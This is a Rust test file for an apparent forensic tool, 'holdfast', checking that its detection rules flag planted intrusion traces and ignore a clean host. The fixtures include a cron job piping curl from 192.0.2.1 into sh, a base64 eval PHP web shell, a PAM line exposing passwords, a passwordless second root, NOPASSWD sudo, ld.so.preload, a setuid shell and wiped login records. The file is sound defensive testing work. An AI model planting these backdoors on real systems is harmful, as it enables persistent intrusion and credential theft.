//! What the rules make of evidence: each trace that was planted has its finding, what is in order has none, and a bundle
//! that somebody changed is not judged.

use std::collections::BTreeSet;
use std::fs::{self, File};
use std::io::{Seek as _, Write as _};
use std::os::fd::AsRawFd as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use harness::{Collected, Ended, Lab, Running, Site, holdfast, path_text, tamper, until};
use serde_json::{Value, json};

const SOON: Duration = Duration::from_mins(1);

/// `holdfast findings BUNDLE --json`.
fn findings(bundle: &Path, signers: &Path) -> Ended {
    let mut command = Command::new(holdfast());
    command.args(["findings", "--json", "--signers"]).arg(signers).arg(bundle);
    Running::start(&mut command).wait(SOON)
}

/// The report, once the exit code is the right one for it.
#[track_caller]
fn judged(collected: &Collected, code: i32) -> Value {
    let said = findings(&collected.path, &collected.signers).expect_code(code).stdout;
    serde_json::from_str(&said).unwrap()
}

/// The names of the rules that fired.
fn rules(report: &Value) -> BTreeSet<&str> {
    report["findings"].as_array().unwrap().iter().map(|finding| finding["rule"].as_str().unwrap()).collect()
}

/// The rules that fired on rows with this value in a column.
fn rules_on<'r>(report: &'r Value, column: &str, value: &Value) -> BTreeSet<&'r str> {
    let has = |finding: &&Value| {
        finding["rows"].as_array().unwrap().iter().any(|row| row["columns"].get(column) == Some(value))
    };
    report["findings"].as_array().unwrap().iter().filter(has).map(|finding| finding["rule"].as_str().unwrap()).collect()
}

/// A process that sleeps until the test is over.
struct Sleeper(Child);

impl Sleeper {
    /// `sleep` from this file, with this as its input.
    fn start(program: &Path, input: Stdio) -> Self {
        use std::os::unix::process::CommandExt as _;
        // `sleep` may be one of many programs in one file, which knows by its first argument which one it is.
        let child = Command::new(program).arg0("sleep").arg("1000").stdin(input).spawn();
        let started = Self(child.unwrap());
        let shown = format!("/proc/{}/comm", started.0.id());
        let own = fs::read_to_string("/proc/self/comm").unwrap();
        until("it runs its own program", SOON, || fs::read_to_string(&shown).ok().filter(|comm| *comm != own));
        started
    }

    fn pid(&self) -> Value {
        self.0.id().into()
    }
}

impl Drop for Sleeper {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn sleep() -> PathBuf {
    let paths = ["/usr/bin/sleep", "/bin/sleep"].map(PathBuf::from);
    paths.into_iter().find(|path| path.exists()).expect("this host has sleep(1)")
}

/// A folder where anybody may write, by its name as well: `$TMPDIR` may be anywhere.
fn temporary() -> tempfile::TempDir {
    tempfile::Builder::new().prefix("holdfast-test-").tempdir_in("/tmp").unwrap()
}

/// A file in memory with the content of `sleep`, and the path by which others can run it.
fn memory_file() -> (File, PathBuf) {
    let mut written = File::from(rustix::fs::memfd_create("planted", rustix::fs::MemfdFlags::CLOEXEC).unwrap());
    written.write_all(&fs::read(sleep()).unwrap()).unwrap();
    written.rewind().unwrap();
    // What is open for writing cannot be run.
    let read = File::open(format!("/proc/self/fd/{}", written.as_raw_fd())).unwrap();
    let path = format!("/proc/{}/fd/{}", std::process::id(), read.as_raw_fd());
    (read, path.into())
}

#[test]
fn processes_without_a_file_and_files_without_a_name_are_found_and_others_are_not() {
    let (lab, temporary) = (Lab::new(), temporary());
    let program = temporary.path().join("updater");
    fs::copy(sleep(), &program).unwrap();
    let deleted = Sleeper::start(&program, Stdio::null());
    fs::remove_file(&program).unwrap();
    let (_file, path) = memory_file();
    let in_memory = Sleeper::start(&path, Stdio::null());
    let staged = temporary.path().join("staged.bin");
    fs::write(&staged, "what was taken").unwrap();
    let holds_deleted = Sleeper::start(&sleep(), File::open(&staged).unwrap().into());
    fs::remove_file(&staged).unwrap();
    let kept = lab.plant("kept", "of no interest");
    let innocent = Sleeper::start(&sleep(), File::open(kept).unwrap().into());

    let volatile = "name: test\nsummary: A test.\ncollect:\n  - collect: process_identity\n  - collect: open_files\n";
    let report = judged(&lab.collect(lab.profile(volatile)).sealed(), 20);
    let fired = |sleeper: &Sleeper| rules_on(&report, "pid", &sleeper.pid());
    assert_eq!(fired(&deleted), BTreeSet::from(["deleted-image", "image-in-temporary-folder"]));
    assert!(fired(&in_memory).contains("memfd-image"), "{:?}", fired(&in_memory));
    assert_eq!(fired(&holds_deleted), BTreeSet::from(["deleted-open-file"]));
    assert_eq!(fired(&innocent), BTreeSet::new());
    assert_eq!((&report["partial"], &report["left_out"]), (&json!(false), &json!([])));
}

/// A host as a distribution leaves it, small.
fn host(lab: &Lab) {
    lab.plant("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
    lab.plant("etc/shadow", "root:*:20000:0:99999:7:::\nwww-data:*:20000:0:99999:7:::\n");
    lab.plant("etc/group", "root:x:0:\nwww-data:x:33:\n");
    lab.plant("etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n");
    lab.plant(
        "etc/pam.d/common-auth",
        "auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n",
    );
    lab.plant("etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all -C\n");
    lab.plant("bin/bash", [b"\x7fELF".as_slice(), &[7; 4096]].concat());
    lab.plant("lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f\n");
    lab.plant("root/.bashrc", "");
    lab.plant("root/.bash_history", "ls\ncd /srv\n");
    lab.plant("var/www/html/index.php", "<?php echo date('Y'); ?>\n");
    lab.plant("var/log/wtmp", [login(1), login(2)].concat());
    let owned = "/.\n/etc\n/etc/cron.d\n/etc/cron.d/e2scrub_all\n/etc/pam.d/common-auth\n/bin/bash\n/etc/sudoers\n\
        /lib/systemd/system/cron.service\n";
    lab.plant("var/lib/dpkg/info/base.list", owned);
    lab.plant(
        "var/lib/dpkg/status",
        "Package: base\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n\n",
    );
}

/// One record of utmp(5), of a login of root.
fn login(pid: u8) -> [u8; 384] {
    let mut record = [0; 384];
    record[0] = 7;
    record[4] = pid;
    record[8..13].copy_from_slice(b"pts/0");
    record[44..48].copy_from_slice(b"root");
    record[340..344].copy_from_slice(&1_790_000_000_i32.to_le_bytes());
    record
}

/// What an intruder leaves on it. Returns the rule that must fire on each path.
fn intrude(lab: &Lab) -> Vec<(&'static str, &'static str)> {
    let append = |name: &str, line: &str| {
        let before = fs::read_to_string(lab.tree().join(name)).unwrap();
        lab.plant(name, format!("{before}{line}\n"));
    };
    append("etc/passwd", "toor:x:0:0::/root:/bin/sh");
    append("etc/shadow", "toor::20000:0:99999:7:::");
    append("etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/log");
    lab.plant("etc/sudoers.d/web", "www-data ALL=(ALL) NOPASSWD: ALL\n");
    lab.plant("etc/ld.so.preload", "/usr/lib/libselinux.so.8\n");
    lab.plant("etc/cron.d/update", "* * * * * root curl -s http://192.0.2.1/u | sh\n");
    lab.plant("etc/systemd/system/agent.service", "[Service]\nExecStart=/usr/local/bin/agent\n");
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA planted@example\n";
    lab.plant("root/.ssh/authorized_keys", key);
    lab.plant("var/www/html/up/i.php", "<?php @eval(base64_decode($_POST['x']));\n");
    lab.plant("var/log/wtmp", [login(1), [0; 384], login(2)].concat());
    fs::remove_file(lab.tree().join("root/.bash_history")).unwrap();
    symlink("/dev/null", lab.tree().join("root/.bash_history")).unwrap();
    let shell = lab.plant("usr/local/share/.b", fs::read(lab.tree().join("bin/bash")).unwrap());
    fs::set_permissions(shell, fs::Permissions::from_mode(0o4755)).unwrap();
    vec![
        ("second-root", "/etc/passwd"),
        ("pam-odd-line", "/etc/pam.d/common-auth"),
        ("sudo-for-service-account", "/etc/sudoers.d/web"),
        ("ld-so-preload", "/etc/ld.so.preload"),
        ("cron-at-boot-or-each-minute", "/etc/cron.d/update"),
        ("persistence-odd-command", "/etc/cron.d/update"),
        ("systemd-unit-outside-packages", "/etc/systemd/system/agent.service"),
        ("authorized-key-changed-lately", "/root/.ssh/authorized_keys"),
        ("web-shell", "/var/www/html/up/i.php"),
        ("login-record-wiped", "/var/log/wtmp"),
        ("history-linked-to-null", "/root/.bash_history"),
        ("setuid-shell", "/usr/local/share/.b"),
    ]
}

/// Collects the tree as the root of a host.
fn of_tree(lab: &Lab) -> Collected {
    let collectors =
        ["persistence", "accounts", "login_records", "user_activity", "web_roots", "suid_and_capabilities"];
    let steps = collectors.map(|name| format!("  - collect: {name}\n")).concat();
    let profile = lab.profile(&format!("name: test\nsummary: A test.\ncollect:\n{steps}"));
    lab.collect(profile).arg("--root").arg(lab.tree()).sealed()
}

#[test]
fn traces_in_an_image_are_found_and_the_image_without_them_gives_nothing() {
    let clean = Lab::new();
    host(&clean);
    let report = judged(&of_tree(&clean), 0);
    assert_eq!(report["findings"], json!([]));
    assert!(report["rows"].as_u64() > Some(10), "{report}");

    let lab = Lab::new();
    host(&lab);
    let planted = intrude(&lab);
    let collected = of_tree(&lab);
    let report = judged(&collected, 20);
    for (rule, path) in planted {
        let on_path = rules_on(&report, "path", &path.into());
        assert!(on_path.contains(rule), "{rule} is not among {on_path:?} on {path}; all: {:?}", rules(&report));
    }
    let names: Vec<&Value> = report["findings"].as_array().unwrap().iter().map(|finding| &finding["level"]).collect();
    assert_eq!(names.first(), Some(&&json!("critical")), "the worst comes first: {names:?}");
}

#[test]
fn a_bundle_that_was_changed_is_not_judged() {
    let lab = Lab::new();
    let sealed = lab.sealed();
    for copy in tamper(&sealed.path, &lab.path("tampered")) {
        let ended = findings(&copy.path, &sealed.signers).expect_code(1);
        assert_eq!(ended.stdout, "", "{}", copy.what);
        assert!(ended.stderr.contains("no findings"), "{}: {}", copy.what, ended.stderr);
    }
    let missing = lab.path("missing.zip");
    assert_eq!(findings(&missing, &sealed.signers).code(), Some(74));
}

#[test]
fn the_server_finds_the_same() {
    let lab = Lab::new();
    host(&lab);
    intrude(&lab);
    let collected = of_tree(&lab);
    let here = judged(&collected, 20);

    let site = Site::new();
    let incident = site.alert("edr", &json!({"event_type": "malware", "host": "web-1", "details": "one"}));
    let words = ["evidence", "add", &incident, path_text(&collected.path), "--stream", path_text(&collected.stream)];
    site.holdfast(&words).expect_code(0);
    let id = here["bundle"].as_str().unwrap();
    let words = ["findings", id, "--json"];
    let said = until("the server has applied its rules", SOON, || Some(site.holdfast(&words)).filter(has_report));
    let there: Value = serde_json::from_str(&said.expect_code(20).stdout).unwrap();
    for key in ["bundle", "findings", "left_out", "partial", "rows", "rules", "rules_sha256"] {
        assert_eq!(there[key], here[key], "{key}");
    }
}

/// Until the bundle is verified the server has nothing to say of it.
fn has_report(ended: &Ended) -> bool {
    matches!(ended.code(), Some(0 | 10 | 20))
}
